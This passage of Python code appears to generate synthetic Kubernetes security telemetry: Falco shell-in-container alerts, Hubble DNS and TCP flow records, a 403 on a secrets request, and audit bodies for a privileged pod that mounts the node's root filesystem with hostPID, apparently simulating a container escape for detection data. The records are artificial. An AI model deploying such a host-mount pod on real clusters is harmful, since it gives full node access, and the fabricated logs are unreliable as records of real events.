    def _falco_shell(self, t: int, pod: Pod, container_name: str) -> str:
        t = pod.node.stamp(t)
        container = next(c for c in pod.containers if c.name == container_name)
        repo, _, tag = container.image.rpartition(":")
        short = container.container_id[:12]
        output = (
            f"{_clock(t)}: Notice A shell was spawned in a container with an attached terminal (evt_type=execve "
            f"user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/bin/sh parent=runc command=sh "
            f"terminal={_TTY} exe_flags=EXE_WRITABLE container_id={short} container_image={repo} "
            f"container_image_tag={tag} container_name={container.name} k8s_ns={pod.namespace} k8s_pod_name={pod.name})"
        )
        fields: Json = {
            "container.id": short,
            "container.image.repository": repo,
            "container.image.tag": tag,
            "container.name": container.name,
            "evt.time": t,
            "evt.type": "execve",
            "k8s.ns.name": pod.namespace,
            "k8s.pod.name": pod.name,
            "proc.cmdline": "sh",
            "proc.exepath": "/bin/sh",
            "proc.name": "sh",
            "proc.pname": "runc",
            "proc.tty": _TTY,
            "user.loginuid": -1,
            "user.name": "root",
            "user.uid": 0,
        }
        record: Json = {"hostname": pod.node.name, "output": output, "priority": "Notice",
                        "rule": "Terminal shell in container", "source": "syscall", "tags": list(_SHELL_TAGS),
                        "time": rfc3339_ns(t), "output_fields": fields}  # fmt: skip
        self._add(FALCO, t, record)
        return short

    # -- Hubble

    def _flow(self, t: int, observer: Pod, src: Json, dst: Json, src_ip: str, dst_ip: str, l4: Json, kind: str,
              event_type: Json, reply: bool, point: str | None, l7: Json | None, summary: str) -> None:  # fmt: skip
        printed = observer.node.stamp(t)  # the observer's node stamps the flow
        record = flow_record(printed, self.cluster.cilium_name, observer, uuid4(self.rng), src, dst, src_ip, dst_ip, l4, kind,
                             event_type, reply, point, l7, summary)  # fmt: skip
        self._add(HUBBLE, printed, record)

    def _lookup(self, t: int, client: Pod, name: str, ip: str) -> None:
        """`client` resolves `name` to `ip` (answered at `t`) through a DNS pod alive then, if any."""
        dns = self._pod(t, lambda p: p.workload.key == _DNS, before=0, after=MINUTE)
        if dns is not None:
            self._dns(t, client, dns, name, ip)

    def _dns(self, t: int, client: Pod, dns: Pod, name: str, ip: str) -> None:
        """A query for `name` and its answer `ip`, the answer at `t`."""
        port, latency, ttl = self.rng.randrange(32768, 61000), int(self.rng.uniform(0.3, 3) * MS), self.rng.randrange(20, 300)
        src, dst = self.endpoints.of(client), self.endpoints.of(dns)
        query = {"type": "REQUEST", "dns": {"query": name, "observation_source": "proxy", "qtypes": ["A"]}}
        self._flow(t - latency, client, src, dst, client.ip, dns.ip, {"UDP": {"source_port": port, "destination_port": 53}},
                   "L7", {"type": 129}, False, None, query, f"DNS Query {name} A")  # fmt: skip
        answer = {"type": "RESPONSE", "latency_ns": latency,
                  "dns": {"query": name, "ips": [ip], "ttl": ttl, "observation_source": "proxy", "rcode": 0,
                          "qtypes": ["A"], "rrtypes": ["A"]}}  # fmt: skip
        self._flow(t, client, dst, src, dns.ip, client.ip, {"UDP": {"source_port": 53, "destination_port": port}}, "L7",
                   {"type": 129}, True, None, answer, f'DNS Answer "{ip}" TTL: {ttl} (Proxy {name} A)')  # fmt: skip

    def _connect(self, t: int, client: Pod, server: Pod | None, ip: str, port: int, sport: int, dst: Json | None = None) -> None:
        """The SYN from `client` (the request flow) and the SYN-ACK back."""
        src = self.endpoints.of(client)
        far = dst if dst is not None else _WORLD if server is None else self.endpoints.of(server)
        self._flow(t, client, src, far, client.ip, ip,
                   {"TCP": {"source_port": sport, "destination_port": port, "flags": {"SYN": True}}},
                   "L3_L4", {"type": 4, "sub_type": 3}, False, "TO_STACK", None, "TCP Flags: SYN")  # fmt: skip
        rtt = int(self.rng.uniform(0.5, 40) * MS)
        self._flow(t + rtt, client, far, src, ip, client.ip,
                   {"TCP": {"source_port": port, "destination_port": sport, "flags": {"SYN": True, "ACK": True}}},
                   "L3_L4", {"type": 4}, True, "TO_ENDPOINT", None, "TCP Flags: SYN, ACK")  # fmt: skip


def _forbidden(message: str) -> Json:
    return {"metadata": {}, "status": "Failure", "message": message, "reason": "Forbidden", "details": {"kind": "secrets"},
            "code": 403}  # fmt: skip


def _privileged_bodies(
    namespace: str, name: str, uid: str, node: str, image: str, command: list[str], t: int
) -> tuple[Json, Json]:
    """The Pod `kubectl create -f` sends (privileged, hostPID, the node's / at /host, pinned to a
    node) and the Pod as stored, for a RequestResponse audit event."""
    container: Json = {"name": "buildkit", "image": image, "command": command, "resources": {},
                       "volumeMounts": [{"name": "host", "mountPath": "/host"}],
                       "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File",
                       "imagePullPolicy": "IfNotPresent", "securityContext": {"privileged": True}}  # fmt: skip
    spec: Json = {"volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}], "containers": [container],
                  "restartPolicy": "Never", "terminationGracePeriodSeconds": 30, "dnsPolicy": "ClusterFirst",
                  "nodeName": node, "hostPID": True, "securityContext": {}, "schedulerName": "default-scheduler"}  # fmt: skip
    request: Json = {"kind": "Pod", "apiVersion": "v1",
                     "metadata": {"name": name, "namespace": namespace, "creationTimestamp": None}, "spec": spec,
                     "status": {}}  # fmt: skip
    stored = dict(spec, serviceAccountName="default", serviceAccount="default")
    meta = {"name": name, "namespace": namespace, "uid": uid, "creationTimestamp": _whole_seconds(t)}
    response: Json = {"kind": "Pod", "apiVersion": "v1", "metadata": meta, "spec": stored,
                      "status": {"phase": "Pending", "qosClass": "BestEffort"}}  # fmt: skip
    return request, response


def _app(pod: Pod) -> bool:
    """A pod of our own apps on the pod network (not a host-network or system pod)."""
    return pod.namespace in _APPS and not pod.workload.host_network
